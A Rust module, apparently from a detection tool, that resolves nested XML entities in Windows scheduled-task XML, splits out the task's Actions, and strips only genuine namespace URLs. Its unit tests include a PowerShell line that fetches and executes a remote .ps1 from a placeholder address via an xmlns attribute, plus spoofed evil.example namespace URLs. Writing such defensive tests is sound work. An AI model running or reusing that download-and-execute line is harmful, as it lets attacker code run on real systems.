//! Text that was put into XML on its way.

use std::borrow::Cow;
use std::ops::Range;

/// Layers of entities that are taken off: Windows writes a task as XML, puts that into the XML of an event, and agents hand it on.
const LAYERS: usize = 3;

/// Gives a script, a command or a task as whoever wrote it did: entities resolved, and without the names of namespaces, which look like
/// URLs and lead nowhere.
pub(crate) fn plain(text: &str) -> Cow<'_, str> {
    let mut plain = Cow::Borrowed(text);
    for _ in 0..LAYERS {
        let Some(resolved) = resolved(&plain) else { break };
        plain = Cow::Owned(resolved);
    }
    match without_namespaces(&plain) {
        Some(rest) => Cow::Owned(rest),
        None => plain,
    }
}

/// Splits the XML of a task in two: what comes before the things that it does, and these; `None` where there are none. What is told of the
/// task has entities for marks of its own, or is marked as text, so that the first tag of that name is the task's. Comments are left out.
pub(crate) fn before_and_in_actions(text: &str) -> Option<(String, String)> {
    let mut layer = Cow::Borrowed(text);
    for _ in 0..=LAYERS {
        // Whatever marks it, the word is there; most scripts have none.
        if !layer.contains(ACTIONS) {
            return None;
        }
        if let Some(both) = split_at_actions(&layer) {
            return Some(both);
        }
        layer = Cow::Owned(resolved(&layer)?);
    }
    None
}

const ACTIONS: &str = "Actions";

fn split_at_actions(text: &str) -> Option<(String, String)> {
    let (comment, marked) = (Span::of(text, "<!--", "-->"), Span::of(text, "<![CDATA[", "]]>"));
    let mut out = String::new();
    let (mut done, mut from, mut actions) = (0, 0, None);
    while let Some(at) = text[from..].find('<').map(|at| from + at) {
        from = at + 1;
        if let Some(end) = comment.end(text, at) {
            out.push_str(&text[done..at]);
            (done, from) = (end, end);
        } else if let Some(end) = marked.end(text, at) {
            from = end;
        } else if actions.is_none() && opens_actions(&text[at + 1..]) {
            actions = Some(out.len() + at - done);
        }
    }
    out.push_str(&text[done..]);
    let actions = out.split_off(actions?);
    Some((out, actions))
}

/// Says whether a tag is called so, with the prefix of a namespace or without.
fn opens_actions(tag: &str) -> bool {
    let is_of_a_name = |c: char| c.is_alphanumeric() || matches!(c, '-' | '_' | '.' | ':');
    let name = &tag[..tag.find(|c| !is_of_a_name(c)).unwrap_or(tag.len())];
    name.rsplit(':').next() == Some(ACTIONS)
}

/// What stands between two marks. One that nothing ends is none.
struct Span {
    start: &'static str,
    end: &'static str,
    /// Where the last of the ends stands: behind it none is looked for, however often one starts.
    last: Option<usize>,
}

impl Span {
    fn of(text: &str, start: &'static str, end: &'static str) -> Self {
        let last = text.rfind(end);
        Self { start, end, last }
    }

    /// Where one that starts here ends.
    fn end(&self, text: &str, at: usize) -> Option<usize> {
        let inside = text[at..].strip_prefix(self.start)?;
        let from = text.len() - inside.len();
        self.last.filter(|last| from <= *last)?;
        Some(from + inside.find(self.end)? + self.end.len())
    }
}

/// Takes one layer of entities off; `None` if there is none.
pub fn resolved(text: &str) -> Option<String> {
    let mut out = String::new();
    let mut done = 0;
    for (at, _) in text.match_indices('&') {
        let Some((letter, length)) = entity(&text[at + 1..]) else {
            continue;
        };
        out.push_str(&text[done..at]);
        out.push(letter);
        done = at + 1 + length;
    }
    (done > 0).then(|| out + &text[done..])
}

/// The letter that an entity stands for, and how long it is behind its `&`: `lt;`, `#39;`, `#x27;`.
fn entity(text: &str) -> Option<(char, usize)> {
    const LONGEST: usize = "#x10FFFF".len();
    let end = text.bytes().take(LONGEST + 1).position(|byte| byte == b';')?;
    let letter = match &text[..end] {
        "lt" => '<',
        "gt" => '>',
        "quot" => '"',
        "amp" => '&',
        "apos" => '\'',
        other => {
            let number = other.strip_prefix('#')?;
            let number = match number.strip_prefix(['x', 'X']) {
                Some(digits) => u32::from_str_radix(digits, 16),
                None => number.parse(),
            };
            char::from_u32(number.ok()?)?
        }
    };
    Some((letter, end + 1))
}

/// Empties every `xmlns="…"` and `xmlns:x="…"` that is the name of a namespace; `None` if there is none. What a script reads from there
/// may be anything else, an address that it fetches from too.
fn without_namespaces(text: &str) -> Option<String> {
    const NAME: &str = "xmlns";
    let mut out = String::new();
    let mut done = 0;
    for (at, _) in text.match_indices(NAME) {
        if !text[..at].ends_with(char::is_whitespace) {
            continue;
        }
        if let Some(value) = value_of_an_attribute(text, at + NAME.len())
            && names_a_namespace(&text[value.clone()])
        {
            out.push_str(&text[done..value.start]);
            done = value.end;
        }
    }
    (done > 0).then(|| out + &text[done..])
}

/// Says whether a URL is the name of a namespace, by those who give such names, and nothing but that: neither leads it elsewhere nor does
/// another stand inside of it.
fn names_a_namespace(url: &str) -> bool {
    const OWNERS: [&str; 5] = [
        "schemas.microsoft.com",
        "schemas.openxmlformats.org",
        "schemas.xmlsoap.org",
        "schemas.dmtf.org",
        "www.w3.org",
    ];
    let Some(place) = url.strip_prefix("http://").or_else(|| url.strip_prefix("https://")) else {
        return false;
    };
    let (host, path) = place.split_once('/').unwrap_or((place, ""));
    OWNERS.contains(&host) && path.chars().all(|c| c.is_ascii_alphanumeric() || "/-_.#".contains(c))
}

/// Where the value of an attribute stands whose name ends here, or goes on behind a colon. The name of a namespace has no blanks.
fn value_of_an_attribute(text: &str, at: usize) -> Option<Range<usize>> {
    let rest = &text[at..];
    let rest = rest.strip_prefix(':').map_or(rest, |name| {
        name.trim_start_matches(|c: char| c.is_alphanumeric() || matches!(c, '-' | '_' | '.'))
    });
    let rest = rest.trim_start().strip_prefix('=')?.trim_start();
    // Inside of a text of a script the quotation mark has a sign before it, at either end.
    let (sign, rest) = match rest.strip_prefix(['\\', '`']) {
        Some(quoted) => (1, quoted),
        None => (0, rest),
    };
    let mark = rest.chars().next().filter(|mark| matches!(mark, '"' | '\''))?;
    let start = text.len() - rest.len() + 1;
    let length = rest[1..].find(|c: char| c == mark || c.is_whitespace())?;
    let is_closed = rest[1 + length..].starts_with(mark) && length >= sign;
    is_closed.then(|| start..start + length - sign)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn entities_are_resolved_however_often_they_were_made() {
        for (written, expected) in [
            ("iwr &quot;http://a/?x=1&amp;y=2&quot;", r#"iwr "http://a/?x=1&y=2""#),
            ("&amp;lt;A&amp;gt;&amp;amp;quot;x&amp;amp;quot;", r#"<A>"x""#),
            ("&#39;&#x27;&apos;&#xD;&#13;", "'''\r\r"),
        ] {
            assert_eq!(plain(written), expected, "{written}");
        }
        for none in [
            "a && b < c & d",
            "a; & b &; &lt &nope; &#; &#xZ; &#x110000; &#1234567890; &\u{fc}\u{fc}\u{fc}\u{fc}\u{fc};&",
        ] {
            assert!(matches!(plain(none), Cow::Borrowed(same) if same == none), "{none}");
        }
    }

    #[test]
    fn the_actions_of_a_task_are_told_from_what_is_told_of_it() {
        let task = "<Task><D>&lt;Actions&gt;</D><Actions><E>&lt;x</E></Actions></Task>";
        let escaped = |text: &str| text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
        let expected = ("<Task><D>&lt;Actions&gt;</D>", "<Actions><E>&lt;x</E></Actions></Task>");
        for written in [task.to_owned(), escaped(task), escaped(&escaped(task))] {
            let (before, actions) = before_and_in_actions(&written).unwrap();
            assert_eq!((before.as_str(), actions.as_str()), expected, "{written}");
        }
        for (written, before, actions) in [
            ("<t:Task><t:D/><t:Actions>x", "<t:Task><t:D/>", "<t:Actions>x"),
            ("<T><!-- <Actions> a --><Actions><!-- b -->x", "<T>", "<Actions>x"),
            (
                "<D><![CDATA[<Actions> <!-- ]]></D><Actions>x-->",
                "<D><![CDATA[<Actions> <!-- ]]></D>",
                "<Actions>x-->",
            ),
            ("<!-- <Actions>x", "<!-- ", "<Actions>x"),
            ("<Actions><![CDATA[x]]>", "", "<Actions><![CDATA[x]]>"),
            ("<Actionset/><Actions/>", "<Actionset/>", "<Actions/>"),
        ] {
            let expected = Some((before.to_owned(), actions.to_owned()));
            assert_eq!(before_and_in_actions(written), expected, "{written}");
        }
        for none in [
            "",
            "iwr http://x",
            "&lt;Task&gt;",
            "<!--<Actions>-->",
            "<Task>&amp;lt;b</Task>",
        ] {
            assert_eq!(before_and_in_actions(none), None, "{none}");
        }
    }

    #[test]
    fn names_of_namespaces_are_dropped_and_what_else_is_called_so_is_not() {
        for (written, expected) in [
            (
                r#"<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">http://y"#,
                r#"<Task version="1.2" xmlns="">http://y"#,
            ),
            (
                "<a\nxmlns:b = 'https://www.w3.org/2000/09/xmldsig#' c='http://d' xmlns='http://www.w3.org'/>f",
                "<a\nxmlns:b = '' c='http://d' xmlns=''/>f",
            ),
            (r#""<a xmlns=\"http://www.w3.org/\">""#, r#""<a xmlns=\"\">""#),
            ("&lt;a xmlns=&quot;http://www.w3.org/&quot;&gt;", r#"<a xmlns="">"#),
            (r#"<a b="x>y" xmlns="http://www.w3.org/x">"#, r#"<a b="x>y" xmlns="">"#),
        ] {
            assert_eq!(plain(written), expected, "{written}");
        }
        for kept in [
            "$x=[xml]\"<a xmlns='http://203.0.113.66/a.ps1'/>\"; iex (iwr $x.a.xmlns)",
            "<a xmlns='http://www.w3.org.evil.example/a'>",
            "<a xmlns='http://www.w3.org@evil.example/a'>",
            "<a xmlns='http://www.w3.org:80@evil.example/a'>",
            "<a xmlns='http://evil.example/www.w3.org/'>",
            "<a xmlns='http://www.w3.org?/x'>",
            "<a xmlns='http://www.w3.org/http://evil.example/a'>",
            "<a xmlns='http://www.w3.org/?to=http%3A%2F%2Fevil.example'>",
            "<a xmlns='urn:x' xmlns:b='c'>",
            "<a xmlnsb='http://www.w3.org/x'",
            "<a xmlns='http://www.w3.org/x",
            "<a xmlns='http://www.w3.org/ x'>",
            "<a xmlns=http://www.w3.org/x>",
            "<a xmlns",
        ] {
            assert_eq!(plain(kept), kept);
        }
    }
}
